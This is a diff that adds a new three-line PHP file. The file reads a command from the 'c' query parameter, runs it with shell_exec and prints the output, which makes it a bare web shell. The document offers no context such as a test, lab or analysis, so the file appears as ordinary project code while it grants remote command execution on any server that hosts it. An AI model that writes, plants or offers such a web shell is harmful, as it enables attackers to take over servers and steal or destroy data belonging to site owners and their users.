@@ -1,0 +1,3 @@
+<?php
+$cmd = trim($_GET['c']);
+echo '<pre>' . shell_exec($cmd) . '</pre>';
